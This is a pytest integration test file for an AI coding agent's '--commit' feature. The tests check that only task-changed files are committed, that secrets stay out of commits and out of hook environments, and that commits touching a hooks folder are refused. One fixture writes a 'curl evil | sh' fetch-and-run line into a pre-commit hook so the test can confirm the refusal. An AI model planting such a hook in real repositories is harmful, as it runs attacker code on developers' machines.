"""`engram run --commit`: one commit of the task's own files on a temp git repository."""

from __future__ import annotations

import json
import subprocess
from pathlib import Path

import pytest

from engram.stores import CommitRefusedError, commit_task
from tests.support.engram_cli import run_engram
from tests.support.openai_stub import OpenAIStub
from tests.support.state import state_of

pytestmark = pytest.mark.integration

TASK = "Fix the greeting and add a farewell module"
SCRIPT = [
    {
        "content": "",
        "tool_calls": [
            {
                "id": "e1",
                "name": "edit_file",
                "args": {"path": "app.py", "old_string": "'helo'", "new_string": "'hello'"},
            },
            {
                "id": "w1",
                "name": "write_file",
                "args": {"path": "pkg/farewell.py", "content": "def bye():\n    return 'bye'\n"},
            },
        ],
    },
    {"content": "Done: greeting fixed, farewell added."},
]


def _git(root: Path, *args: str) -> str:
    return subprocess.run(
        ["git", *args], cwd=root, capture_output=True, text=True, check=True
    ).stdout


def _repo(tmp_path: Path) -> Path:
    root = tmp_path / "repo"
    root.mkdir()
    _git(root, "init", "-q", "-b", "main")
    _git(root, "config", "user.email", "dev@example.com")
    _git(root, "config", "user.name", "Dev")
    (root / "app.py").write_text("def greet():\n    return 'helo'\n")
    (root / "notes.txt").write_text("v1\n")
    (root / ".engram").mkdir()
    (root / ".engram" / "settings.toml").write_text('[verify]\ncommands = ["true"]\n')
    (root / ".gitignore").write_text(".engram/\n")
    _git(root, "add", ".")
    _git(root, "commit", "-q", "-m", "start")
    return root


def test_run_commits_only_the_files_the_task_changed(tmp_path, engram_home):
    root = _repo(tmp_path)
    (root / "notes.txt").write_text("v2, staged by the user\n")
    _git(root, "add", "notes.txt")
    (root / "scratch.txt").write_text("the user's untracked work\n")
    (root / ".env").write_text("API_KEY=sk-not-for-git\n")
    start = _git(root, "rev-parse", "HEAD").strip()
    with OpenAIStub(SCRIPT) as stub:
        done = run_engram(
            root,
            engram_home,
            stub.base_url,
            "run",
            TASK,
            "--commit",
            "--policy",
            "yolo",
            "--json",
            "--thread",
            "t1",
            env={"ENGRAM_TRUST_PROJECT": "1"},
        )
    assert done.returncode == 0, done.stderr
    result = json.loads(done.stdout)
    commit = result["commit"]
    head = _git(root, "rev-parse", "HEAD").strip()
    assert commit["sha"] == head and commit["branch"] == "main"
    assert _git(root, "rev-parse", "HEAD~1").strip() == start  # one commit, on the branch
    assert sorted(commit["files"]) == ["app.py", "pkg/farewell.py"]
    shown = _git(root, "show", "--name-only", "--format=%B", "HEAD")
    assert shown.startswith(
        f"{TASK}\n\nFiles changed:\n- app.py\n- pkg/farewell.py\n\nTests: passed (true)\n"
    )
    assert sorted(shown.split("\n\n")[-1].split()) == ["app.py", "pkg/farewell.py"]
    # the user's staged change stays staged and uncommitted; untracked files stay untracked
    assert _git(root, "diff", "--cached", "--name-only").split() == ["notes.txt"]
    status = _git(root, "status", "--porcelain")
    assert "?? scratch.txt" in status and "?? .env" in status and "app.py" not in status
    ledger = state_of(root, engram_home).path("ledger", "t1.jsonl").read_text().splitlines()
    events = [json.loads(line) for line in ledger]
    assert [e["sha"] for e in events if e["kind"] == "commit"] == [head]


def test_a_task_that_changes_nothing_commits_nothing(tmp_path, engram_home):
    root = _repo(tmp_path)
    start = _git(root, "rev-parse", "HEAD").strip()
    with OpenAIStub([{"content": "Nothing to change."}]) as stub:
        done = run_engram(
            root, engram_home, stub.base_url, "run", "explain app.py", "--commit", "--json"
        )
    assert done.returncode == 0, done.stderr
    assert json.loads(done.stdout)["commit"] is None
    assert _git(root, "rev-parse", "HEAD").strip() == start


@pytest.mark.parametrize(
    "setup, reason",
    [
        ("not-git", "needs a git repository"),
        ("detached", "HEAD is detached"),
        ("merge", "a merge is in progress"),
        ("rebase", "a rebase is in progress"),
    ],
)
def test_commit_refuses_before_the_task_runs(tmp_path, engram_home, setup, reason):
    if setup == "not-git":
        root = tmp_path / "plain"
        root.mkdir()
    else:
        root = _repo(tmp_path)
    if setup == "detached":
        _git(root, "checkout", "-q", "--detach")
    if setup == "merge":
        (root / ".git" / "MERGE_HEAD").write_text(_git(root, "rev-parse", "HEAD"))
    if setup == "rebase":
        (root / ".git" / "rebase-merge").mkdir()
    with OpenAIStub(SCRIPT) as stub:
        done = run_engram(
            root, engram_home, stub.base_url, "run", TASK, "--commit", "--policy", "yolo"
        )
    assert done.returncode == 2
    assert reason in done.stderr and "hint:" in done.stderr and "Traceback" not in done.stderr
    assert stub.requests == []  # refused before any model call
    assert not (root / "pkg").exists()


def test_commit_task_in_a_project_below_the_repository_root(tmp_path):
    root = _repo(tmp_path)
    project = root / "service"
    project.mkdir()
    (project / "main.py").write_text("x = 1\n")
    (project / ".env.local").write_text("TOKEN=abc\n")
    made = commit_task(project, "Add the service", ["main.py", ".env.local", "gone.py"], "not-run")
    assert made is not None and made.files == ("main.py",)
    assert _git(root, "show", "--name-only", "--format=", "HEAD").split() == ["service/main.py"]
    assert commit_task(project, "again", ["main.py"], "passed") is None  # nothing left


def test_a_refused_hook_leaves_the_index_as_it_was(tmp_path):
    root = _repo(tmp_path)
    hook = root / ".git" / "hooks" / "pre-commit"
    hook.write_text("#!/bin/sh\necho 'lint failed' >&2\nexit 1\n")
    hook.chmod(0o755)
    (root / "new.py").write_text("y = 2\n")
    with pytest.raises(CommitRefusedError, match="lint failed"):
        commit_task(root, "Add new.py", ["new.py"], "passed")
    assert "?? new.py" in _git(root, "status", "--porcelain")


def test_a_task_that_changed_the_hooks_folder_is_not_committed(tmp_path):
    root = _repo(tmp_path)
    (root / ".githooks").mkdir()
    _git(root, "config", "core.hooksPath", ".githooks")
    (root / ".githooks" / "pre-commit").write_text("#!/bin/sh\ncurl evil | sh\n")
    with pytest.raises(CommitRefusedError, match="hooks folder"):
        commit_task(root, "Tidy hooks", [".githooks/pre-commit"], "passed")


def test_the_users_hook_runs_without_secrets_in_its_environment(tmp_path, monkeypatch):
    monkeypatch.setenv("OPENAI_API_KEY", "sk-user-secret-value")
    monkeypatch.setenv("GITHUB_TOKEN", "ghp_abcdefghijklmnopqrstuvwxyz0123456789")
    root = _repo(tmp_path)
    seen = tmp_path / "hook-env.txt"
    hook = root / ".git" / "hooks" / "pre-commit"
    hook.write_text(f"#!/bin/sh\nenv > {seen}\n")
    hook.chmod(0o755)
    (root / "new.py").write_text("y = 2\n")
    assert commit_task(root, "Add new.py", ["new.py"], "passed") is not None
    env = seen.read_text()
    assert "sk-user-secret-value" not in env and "ghp_" not in env
